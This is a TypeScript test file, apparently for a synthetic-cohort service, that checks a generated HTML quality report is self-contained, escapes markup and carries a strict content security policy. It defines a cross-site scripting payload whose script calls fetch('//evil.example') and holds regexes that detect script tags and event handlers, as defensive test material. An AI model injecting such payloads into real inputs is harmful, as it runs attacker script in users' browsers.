// The quality report as a page: for people, without help from anywhere, and safe to open.

import type { ArtifactView, CohortJobView } from '@synthward/contracts';
import { useStack } from '@synthward/testkit';
import { expectVerified } from './support/digests';

const { client } = useStack();

const HOSTILE = '"><script>fetch("//evil.example")</script><img src=x onerror=alert(1)>';
const spec = {
  name: HOSTILE,
  population: 300,
  seed: 5,
  conditions: [{ name: 'hypertension', prevalence: 0.3 }],
  hie: { sourceSystems: ['clinic', 'lab'], duplicateRate: 0.1, addressDriftRate: 0.1 },
};

let job: CohortJobView;
let listed: ArtifactView;
let page: string;
beforeAll(async () => {
  job = await client().completed(await client().submit(spec));
  const found = job.artifacts.find(({ format }) => format === 'quality');
  if (!found) throw new Error('the job has no quality page');
  listed = found;
  page = expectVerified(listed, await client().bytes(listed.url));
}, 120_000);

test('it is an artifact of every job, listed in the manifest with its digest', async () => {
  const { name, bytes, sha256, contentSha256, format, recordCount } = listed;
  expect(listed).toMatchObject({
    name: 'quality.html',
    mediaType: 'text/html; charset=utf-8',
    contentEncoding: null,
  });
  expect(job.manifest?.artifacts).toContainEqual({ name, format, bytes, sha256, contentSha256, recordCount });
  const bare = await client().completed<CohortJobView>(
    await client().submit({ ...spec, exports: { formats: ['ndjson'] } }),
  );
  expect(bare.artifacts.map(({ format: kind }) => kind)).toEqual(['ndjson', 'quality']);
});

test('it comes as HTML to be saved, under a policy that lets nothing run or load', async () => {
  const accepts = ['text/html', '*/*', 'text/html,application/xhtml+xml;q=0.9'];
  for (const accept of accepts) {
    const { status, headers } = await client().call(listed.url, { headers: { Accept: accept } });
    expect([accept, status]).toEqual([accept, 200]);
    expect(headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(headers.get('content-disposition')).toBe('attachment; filename="quality.html"');
    expect(headers.get('content-security-policy')).toBe("default-src 'none';frame-ancestors 'none'");
    expect(headers.get('x-content-type-options')).toBe('nosniff');
  }
});

test('it needs nothing but itself, and allows itself nothing else', () => {
  expect(page).toContain(
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`,
  );
  expect(page).not.toMatch(/<(script|link|iframe|object|embed|img|base|form)\b/i);
  expect(page).not.toMatch(/\s(src|srcset|action|on\w+)\s*=\s*["']/i);
  expect(page).not.toMatch(/url\(|@import/i);
  const targets = [...page.matchAll(/\bhref="([^"]*)"/g)].map(([, target]) => target);
  expect(targets.filter((target) => !target?.startsWith('#'))).toEqual([]);
  for (const target of targets) expect(page).toContain(`id="${target?.slice(1)}"`);
});

test('a name that looks like markup is shown as it was written', () => {
  expect(page).toContain('&lt;script&gt;');
  expect(page).not.toContain(HOSTILE);
});

test('it shows the figures of the report', () => {
  const { quality } = job;
  if (!quality) throw new Error('a completed job has a report');
  const records = Object.values(quality.sourceSystemCounts).reduce((sum, count) => sum + count, 0);
  for (const [label, figure] of [
    ['patients', quality.population],
    ['source records', records],
    ['duplicates', quality.mutations.duplicates],
    ['drifted addresses', quality.mutations.addressDrift],
  ] as const)
    expect(page).toContain(`<dt>${label}</dt><dd>${figure}</dd>`);
  expect(page).toContain(`All ${quality.targets.length} targets are met`);
});
